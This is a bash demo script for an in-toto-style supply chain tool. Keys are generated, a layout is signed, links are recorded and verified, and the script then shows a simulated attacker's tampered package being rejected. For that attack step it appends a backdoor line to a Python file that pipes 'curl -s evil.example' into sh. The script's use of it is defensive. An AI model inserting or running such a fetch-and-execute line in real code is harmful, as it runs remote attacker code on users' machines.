#!/usr/bin/env bash
# The classic in-toto supply chain, end to end (see README.md):
#   alice (owner) signs the layout; bob writes code; carl packages it;
#   the consumer verifies the package, then an attacker swaps it and the
#   consumer verifies again.
#
# Usage: bash run.sh
#   TOTO=path/to/toto  toto binary (default: bin/toto of this repository, else toto on PATH)
#   WORK=dir           work here (must be empty or absent) and keep it; default a
#                      fresh temporary directory, removed at the end unless KEEP=1
# Exit status: 0 if the honest chain verified and the tampering was caught.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)

# --- set-up: find toto, make a work directory (see ../lib.sh) ----------
. "$here/../lib.sh"
example_setup basic

cat <<'EOF'
The classic in-toto supply chain. alice, the project owner, signs a layout
saying bob writes the code and carl packages it; the consumer checks the
package against it. Then an attacker swaps the package.
EOF

# --- 1. everyone makes a key pair; alice gets the functionaries' public keys -
step "Keys: alice (owner), bob (developer), carl (packager)"
for who in alice bob carl; do
	mkdir "$who"
	(cd "$who" && show toto key generate -o "$who")
done
mkdir alice/keys && cp bob/bob.pub carl/carl.pub alice/keys/

# --- 2. alice writes the layout from its YAML source and signs it ----------
step "alice: create and sign the layout"
cp "$here/layout.yaml" alice/
(
	cd alice
	show toto layout create layout.yaml -o root.layout
	show toto sign --key alice root.layout
)

# --- 3. bob writes the code: not one command, so record start ... stop -----
step "bob: write-code (toto record start / edit / toto record stop)"
(
	cd bob
	show toto record start --step write-code --key bob
	mkdir demo-project
	printf 'print("Hello in-toto")\n' >demo-project/foo.py
	echo '# (bob writes demo-project/foo.py)'
	show toto record stop --step write-code --key bob -p demo-project
)

# --- 4. carl packages it, wrapped in toto run --------------------------------
step "carl: package (toto run ... -- tar)"
mkdir carl/demo-project && cp bob/demo-project/foo.py carl/demo-project/
(
	cd carl
	show toto run --step package --key carl -m demo-project -p demo-project.tar.gz -- tar czf demo-project.tar.gz demo-project
)

# --- 5. publish: only the package, the layout and the links ----------------
step "consumer: download the package, layout and links; pin alice's key"
mkdir -p consumer/links consumer/keys
cp carl/demo-project.tar.gz alice/root.layout consumer/
cp bob/*.link carl/*.link consumer/links/
cp alice/alice.pub consumer/keys/ # obtained out of band, e.g. from the project's website
(cd consumer && find . -type f | sort | sed 's|^\./|  |')

verify() {
	show toto verify --layout root.layout --layout-key keys/alice.pub --links links
}

step "consumer: verify"
if (cd consumer && verify); then
	echo "VERDICT: demo-project.tar.gz PASSED verification"
else
	echo "VERDICT: the honest supply chain FAILED verification (unexpected)" >&2
	exit 1
fi

# --- 6. an attacker swaps the package for one with a backdoor --------------
step "attacker: replace demo-project.tar.gz with a backdoored copy"
cp -R consumer tampered
mkdir evil
tar xzf tampered/demo-project.tar.gz -C evil
printf 'import os; os.system("curl -s evil.example | sh")\n' >>evil/demo-project/foo.py
tar czf tampered/demo-project.tar.gz -C evil demo-project
echo "appended a line to demo-project/foo.py and re-packed demo-project.tar.gz"

step "consumer: verify the tampered package"
if (cd tampered && verify); then
	echo "VERDICT: the tampered package PASSED verification: the attack was NOT caught" >&2
	exit 1
else
	code=$?
	if [ "$code" -ne 1 ]; then
		echo "VERDICT: toto verify exited $code (a usage or input error), not 1 (verification failed)" >&2
		exit 1
	fi
	echo "VERDICT: the tampered demo-project.tar.gz was REJECTED (exit $code): the attack was caught"
fi
